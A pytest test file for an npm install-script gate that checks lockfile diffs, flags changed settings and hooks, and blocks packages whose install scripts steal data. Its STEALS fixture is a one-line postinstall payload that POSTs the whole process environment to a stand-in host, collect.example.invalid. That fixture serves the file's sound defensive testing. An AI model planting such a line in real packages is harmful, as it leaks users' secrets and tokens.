"""The gate, diff and preview on real repositories, with the real npm, git and semgrep and a registry on loopback."""

from __future__ import annotations

import json
import subprocess
from typing import Any

import pytest

from tests.loopback import Published
from tests.world import Said, World

pytestmark = [pytest.mark.npm, pytest.mark.semgrep]

QUIET = {
    "install.js": "require('fs').writeFileSync(__dirname + '/made', String(require('./lib')))\n",
    "lib.js": "module.exports = process.env.HOME\n",
}
STEALS = {
    "install.js": "require('https').request('https://collect.example.invalid', { method: 'POST' }).end(JSON.stringify(process.env))\n"
}
BY_NODE: dict[str, Any] = {"scripts": {"postinstall": "node install.js"}}


def git(world: World, *words: str) -> None:
    identity = ("-c", "user.name=a", "-c", "user.email=a@example.test", "-c", "commit.gpgsign=false")
    subprocess.run(["/usr/bin/env", "git", *identity, *words], cwd=world.folder, check=True, capture_output=True)


def commit(world: World) -> None:
    git(world, "add", "-A")
    git(world, "commit", "-qm", "state", "--allow-empty")


@pytest.fixture
def builds(world: World) -> Published:
    """Give a committed project with one package whose script nobody approved."""
    published = world.registry.publish("builds", "1.0.0", QUIET, **BY_NODE)
    world.lock(published)
    git(world, "init", "-q", "-b", "main")
    commit(world)
    return published


def gate(world: World, *words: str) -> Said:
    return world.run("gate", "--base", "main", "--json", *words)


def _signatures(said: Said) -> set[str]:
    return {finding["signature"] for finding in said.report["findings"]}


# ------------------------------------------------------------------ the gate


@pytest.mark.usefixtures("builds")
def test_what_did_not_change_is_not_judged_again(world: World) -> None:
    said = gate(world)
    assert said.code == 0, said
    assert said.report["verdicts"] == []
    world.write("README.md", "x")
    assert gate(world).code == 0


def test_a_new_package_without_a_script_passes_and_is_told(world: World, builds: Published) -> None:
    world.lock(builds, world.registry.publish("plain", "1.0.0", {"index.js": "1"}))
    said = gate(world)
    assert said.code == 0, said
    (comparison,) = said.report["comparisons"]
    assert [(one["kind"], one["name"]) for one in comparison["tree"]] == [("added", "plain")]
    assert comparison["unchanged"] == 1


def test_a_new_script_waits_and_one_that_is_as_before_does_not(world: World, builds: Published) -> None:
    world.lock(builds, world.registry.publish("more", "1.0.0", QUIET, **BY_NODE))
    said = gate(world)
    assert said.code == 10
    assert [(v["package"], v["novelty"]) for v in said.report["verdicts"]] == [("more", "new")]


@pytest.mark.usefixtures("builds")
def test_a_bump_that_changes_nothing_reached_passes(world: World) -> None:
    world.lock(world.registry.publish("builds", "1.0.1", {**QUIET, "README.md": "new"}, **BY_NODE))
    said = gate(world)
    assert said.code == 0, said
    assert said.report["comparisons"][0]["unchanged"] == 1


@pytest.mark.usefixtures("builds")
def test_a_bump_that_changes_a_reached_file_waits_and_shows_the_difference(world: World) -> None:
    world.lock(
        world.registry.publish("builds", "1.1.0", {**QUIET, "lib.js": "module.exports = process.env.PATH\n"}, **BY_NODE)
    )
    said = gate(world)
    assert said.code == 10
    (verdict,) = said.report["verdicts"]
    assert verdict["novelty"] == "changed"
    assert [file["path"] for file in verdict["change"]["files"]] == ["lib.js"]
    assert "not as before" in world.run("gate", "--base", "main").out


@pytest.mark.usefixtures("builds")
def test_a_bump_that_steals_is_blocked(world: World) -> None:
    world.lock(world.registry.publish("builds", "1.0.1", STEALS, **BY_NODE))
    assert gate(world).code == 11


def test_an_approval_within_the_change_does_not_count_and_is_told(world: World, builds: Published) -> None:
    world.lock(world.registry.publish("more", "1.0.0", QUIET, **BY_NODE), builds)
    world.approve("more")
    said = gate(world)
    assert said.code == 10
    assert said.verdicts == {"more postinstall": "review"}
    assert "authority-changed" in _signatures(said)
    commit(world)
    assert gate(world).code == 0


@pytest.mark.usefixtures("builds")
def test_a_policy_within_the_change_does_not_count(world: World) -> None:
    world.lock(world.registry.publish("builds", "1.0.1", STEALS, **BY_NODE))
    world.write("safe-install.toml", "auto-approve = true\n")
    said = gate(world)
    assert said.code == 11
    assert "authority-changed" in _signatures(said)


@pytest.mark.usefixtures("builds")
@pytest.mark.parametrize(
    ("name", "text"),
    [
        (".npmrc", "save-exact=true\n"),
        (".claude/settings.json", "{}"),
        (".husky/post-checkout", "#!/bin/sh\n"),
        (".pre-commit-config.yaml", "repos: []\n"),
        ("packages/a/.npmrc", "fund=false\n"),
        (".mcp.json", "{}"),
        ("lefthook.yaml", "pre-commit: {}\n"),
        (".simple-git-hooks.cjs", "module.exports = {}\n"),
        (".lintstagedrc.json", "{}"),
    ],
)
def test_settings_within_the_change_are_told(world: World, name: str, text: str) -> None:
    world.write(name, text)
    said = gate(world)
    assert said.code == 10
    assert any(f["signature"] == "settings-changed" and f["path"] == name for f in said.report["findings"])


@pytest.mark.usefixtures("builds")
@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("patchedDependencies", {"builds": "p.patch"}),
        ("packageManager", "npm@11.0.0"),
        ("husky", {"hooks": {"pre-commit": "node x.js"}}),
        ("simple-git-hooks", {"pre-commit": "node x.js"}),
        ("gitHooks", {"post-checkout": "node x.js"}),
        ("lint-staged", {"*.js": "node x.js"}),
        ("pre-commit", ["lint"]),
        ("config", {"ghooks": {"pre-commit": "node x.js"}}),
    ],
)
@pytest.mark.parametrize("folder", ["", "packages/a/"])
def test_a_key_of_package_json_that_patches_or_makes_hooks_is_told(
    world: World, folder: str, key: str, value: object
) -> None:
    path = f"{folder}package.json"
    manifest = json.loads(world.read(path)) if not folder else {}
    world.write(path, json.dumps({**manifest, "description": "as before", "config": {"port": 1}}))
    commit(world)
    assert gate(world).code == 0
    world.write(path, json.dumps({**manifest, "description": "is another", "config": {"port": 2}, key: value}))
    said = gate(world)
    assert said.code == 10
    (finding,) = said.report["findings"]
    assert (finding["signature"], finding["path"]) == ("settings-changed", path)
    assert key in finding["message"]


@pytest.mark.usefixtures("builds")
def test_a_hook_is_seen_behind_a_mark_of_the_encoding(world: World) -> None:
    world.write("web/package.json", "\ufeff" + json.dumps({"husky": {"hooks": {}}}))
    assert [f["message"].split(":")[0] for f in gate(world).report["findings"]] == [
        "husky of web/package.json differs from the base"
    ]


@pytest.mark.usefixtures("builds")
@pytest.mark.parametrize("text", ["{", "[" * 100_000, "[]"])
def test_a_package_json_that_cannot_be_read_is_told(world: World, text: str) -> None:
    world.write("web/package.json", text)
    said = gate(world)
    assert said.code == 10
    assert "cannot be read" in said.report["findings"][0]["message"]


@pytest.mark.usefixtures("builds")
def test_the_projects_own_settings_are_told_before_many_others(world: World) -> None:
    for number in range(40):
        world.write(f".claude/{number}/x.json", "{}")
    manifest = json.loads(world.read("package.json"))
    world.write("package.json", json.dumps({**manifest, "husky": {"hooks": {}}}))
    told = [finding["message"] for finding in gate(world).report["findings"]]
    assert len(told) == 31
    assert told[0].startswith("husky of package.json")
    assert told[-1] == "11 more settings differ from the base"


@pytest.mark.usefixtures("builds")
def test_a_prepare_script_that_makes_hooks_waits(world: World) -> None:
    manifest = json.loads(world.read("package.json"))
    world.write("package.json", json.dumps({**manifest, "scripts": {"prepare": "husky"}}))
    said = gate(world)
    assert said.code == 10
    assert "prepare" in " ".join(said.verdicts)


@pytest.mark.usefixtures("builds")
def test_settings_of_installed_packages_are_nobodys(world: World) -> None:
    world.write("node_modules/x/.npmrc", "fund=false\n")
    world.write("node_modules/x/package.json", json.dumps({"husky": {}}))
    git(world, "add", "-f", "node_modules")
    commit(world)
    assert gate(world).code == 0
    world.write("node_modules/x/package.json", json.dumps({"husky": {"hooks": {}}}))
    assert gate(world).code == 0


@pytest.mark.usefixtures("builds")
def test_a_lockfile_of_another_manager_is_never_clean(world: World) -> None:
    world.write("yarn.lock", "# yarn\n")
    said = gate(world)
    assert said.code == 11
    assert [gap["path"] for gap in said.report["gaps"]] == ["yarn.lock"]


@pytest.mark.usefixtures("builds")
def test_a_second_lockfile_deeper_down_is_judged_too(world: World) -> None:
    inner = world.registry.publish("inner", "1.0.0", STEALS, **BY_NODE)
    lock = {
        "name": "deep",
        "version": "1.0.0",
        "lockfileVersion": 3,
        "packages": {"": {"dependencies": {"inner": "1.0.0"}}, "node_modules/inner": world.registry.lock_entry(inner)},
    }
    world.write(
        "deep/package.json", json.dumps({"name": "deep", "version": "1.0.0", "dependencies": {"inner": "1.0.0"}})
    )
    world.write("deep/package-lock.json", json.dumps(lock))
    said = gate(world)
    assert said.code == 11
    assert said.report["verdicts"][0]["target"] == "deep/package-lock.json"


@pytest.mark.usefixtures("builds")
def test_same_version_with_other_contents_is_told(world: World) -> None:
    other = world.registry.publish("builds", "1.0.0", {**QUIET, "README.md": "other"}, **BY_NODE)
    world.lock(other)
    said = gate(world)
    assert said.code == 10
    assert "same-version-other-contents" in _signatures(said)


@pytest.mark.usefixtures("builds")
@pytest.mark.parametrize("text", ["", "{", "[]", '{"lockfileVersion": 9}'])
def test_a_lockfile_that_cannot_be_read_is_never_clean(world: World, text: str) -> None:
    world.write("package-lock.json", text)
    assert gate(world).code not in {0, 10}


@pytest.mark.parametrize("text", ["", "{", "[]", '{"lockfileVersion": 9}'])
def test_a_lockfile_that_could_not_be_read_before_either_is_never_clean(world: World, text: str) -> None:
    world.write("package.json", '{"name": "app", "version": "1.0.0"}')
    world.write("package-lock.json", text)
    git(world, "init", "-q", "-b", "main")
    commit(world)
    assert gate(world).code not in {0, 10}


@pytest.mark.usefixtures("builds")
def test_a_missing_lockfile_is_never_clean(world: World) -> None:
    (world.folder / "package-lock.json").unlink()
    assert gate(world).code not in {0, 10}


@pytest.mark.usefixtures("builds")
@pytest.mark.parametrize("base", ["nowhere", "--help", "main:package.json", ""])
def test_a_base_that_is_no_commit_is_refused(world: World, base: str) -> None:
    assert world.run("gate", f"--base={base}").code == 2


@pytest.mark.usefixtures("builds")
def test_the_gate_writes_nothing(world: World) -> None:
    world.lock(world.registry.publish("builds", "1.1.0", STEALS, **BY_NODE))
    before = {
        path: path.read_bytes() for path in world.folder.rglob("*") if path.is_file() and ".git/" not in str(path)
    }
    gate(world)
    assert {p: p.read_bytes() for p in world.folder.rglob("*") if p.is_file() and ".git/" not in str(p)} == before


def test_the_projects_own_script_is_judged_when_it_changes(world: World) -> None:
    world.write("own.js", "require('fs').writeFileSync('a', String(process.env.HOME))\n")
    world.lock(scripts={"postinstall": "node own.js"})
    git(world, "init", "-q", "-b", "main")
    commit(world)
    world.lock(world.registry.publish("plain", "1.0.0", {"index.js": "1"}), scripts={"postinstall": "node own.js"})
    world.write("own.js", "require('fs').writeFileSync('a', String(process.env.PATH))\n")
    assert gate(world).code == 10


# ------------------------------------------------------------------ diff and preview


def test_a_diff_of_two_packages_tells_what_their_scripts_do_differently(world: World) -> None:
    world.write("package.json", "{}")
    world.registry.publish("builds", "1.0.0", QUIET, **BY_NODE)
    world.registry.publish(
        "builds", "2.0.0", {**QUIET, "lib.js": "module.exports = process.env.NPM_TOKEN\n"}, **BY_NODE
    )
    said = world.run("diff", "builds@1.0.0", "builds@2.0.0", "--json")
    (verdict,) = said.report["verdicts"]
    assert verdict["novelty"] == "changed"
    assert verdict["change"]["behaviours"]["env"] == ["NPM_TOKEN"]


def test_a_diff_of_a_commit_and_the_working_tree(world: World, builds: Published) -> None:
    world.lock(builds, world.registry.publish("plain", "1.0.0", {"index.js": "1"}))
    said = world.run("diff", "main", "--json")
    assert [one["name"] for one in said.report["comparisons"][0]["tree"]] == ["plain"]
    commit(world)
    assert [one["kind"] for one in world.run("diff", "main", "main~1", "--json").report["comparisons"][0]["tree"]] == [
        "removed"
    ]


def test_a_diff_of_two_lockfiles(world: World, builds: Published) -> None:
    world.write("old.json", world.read("package-lock.json"))
    world.lock(builds, world.registry.publish("plain", "1.0.0", {"index.js": "1"}))
    said = world.run("diff", "old.json", "package-lock.json", "--json")
    assert [one["name"] for one in said.report["comparisons"][0]["tree"]] == ["plain"]


@pytest.mark.usefixtures("builds")
def test_a_side_that_is_nothing_is_refused(world: World) -> None:
    assert world.run("diff", "./nowhere.json").code == 2


@pytest.mark.usefixtures("builds")
def test_a_preview_tells_what_would_come_and_touches_nothing(world: World) -> None:
    world.registry.publish("more", "1.0.0", QUIET, **BY_NODE)
    before = world.read("package-lock.json"), world.read("package.json")
    said = world.run("preview", "more@1.0.0", "--json")
    assert said.code == 10
    assert said.verdicts == {"more postinstall": "review"}
    assert said.report["verdicts"][0]["target"] == "more@1.0.0"
    assert (
        "safe-install approve" not in world.run("preview", "more@1.0.0").out
    )  # there is nothing here yet that could be approved
    assert (world.read("package-lock.json"), world.read("package.json")) == before
    assert not world.has("node_modules")
